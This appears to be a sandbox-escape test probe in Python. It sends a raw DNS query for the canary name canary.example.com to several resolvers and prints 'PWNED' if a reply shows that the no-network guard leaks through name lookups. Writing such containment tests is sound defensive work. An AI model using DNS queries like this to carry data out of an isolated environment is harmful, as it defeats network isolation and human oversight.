"""Ask for a name, which is a way out where addresses are not.

attack: E02 carry something out in names
guard: NetworkDisabled
ending: exited
"""

import socket

sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
query = b"\0\1\1\0\0\1\0\0\0\0\0\0\6canary\7example\3com\0\0\1\0\1"
sent = 0
for server in ("127.0.0.11", "8.8.8.8", "172.17.0.1"):
    try:
        sock.settimeout(0.3)
        sent += bool(sock.sendto(query, (server, 53)) and sock.recvfrom(512))
    except OSError:
        continue
print("PWNED" if sent else "held")
